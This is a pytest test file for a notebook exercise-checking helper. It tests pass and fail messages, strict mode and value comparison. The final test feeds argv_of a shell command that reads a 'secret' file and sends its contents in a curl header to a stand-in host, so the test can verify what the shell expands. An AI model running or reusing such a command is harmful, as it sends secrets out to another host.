"""helpers.exercises: a check says pass or what is wrong and never stops the notebook, unless a solution asks it to."""

from __future__ import annotations

import pytest

from helpers.exercises import ExerciseNotPassed, argv_of, check, expect_equal


def test_a_passing_check_says_so_and_lists_what_held(capsys):
    squares = [n * n for n in range(4)]
    check("1", {"`squares` holds the first 4 squares": lambda: squares == [0, 1, 4, 9]})
    assert capsys.readouterr().out == "✓ Exercise 1 passes:\n  - `squares` holds the first 4 squares\n"


def test_an_unfinished_answer_says_what_is_missing_without_raising(capsys):
    answer = ...  # the learner's cell before they write anything
    check("2", {"the answer is 42": lambda: answer == 42, "the answer is even": lambda: answer % 2 == 0})
    out = capsys.readouterr().out
    assert out.startswith("✗ Exercise 2, not yet:\n  - the answer is 42\n  - the answer is even (TypeError: ")


def test_a_missing_name_is_reported_as_what_to_define(capsys):
    check("3", {"`model` is defined": lambda: undefined_model is not None})  # noqa: F821
    assert "(NameError: name 'undefined_model' is not defined)" in capsys.readouterr().out


def test_a_solution_that_does_not_pass_stops_the_notebook():
    with pytest.raises(ExerciseNotPassed, match="Exercise 4, not yet"):
        check("4", {"one plus one is three": lambda: 1 + 1 == 3}, strict=True)
    check("4", {"one plus one is two": lambda: 1 + 1 == 2}, strict=True)  # passes: no error


def test_a_check_needs_an_expectation():
    with pytest.raises(ValueError):
        check("5", {})


def test_expect_equal_shows_the_value_that_differs(capsys):
    roots = [2.0, -1.0, 3.0]
    check("6", {"roots is [2.0, None, 3.0]": lambda: expect_equal(roots, [2.0, None, 3.0])})
    assert "  - roots is [2.0, None, 3.0] (AssertionError: got [2.0, -1.0, 3.0])" in capsys.readouterr().out
    assert expect_equal([1], [1])


def test_argv_of_sees_what_the_shell_expanded_and_only_the_program_asked_for(tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("s3cr3t\n")
    assert argv_of(f'echo hi; curl -H "$(cat {secret})" http://x', "curl") == [["curl", "-H", "s3cr3t", "http://x"]]
    assert argv_of("true", "curl") == []
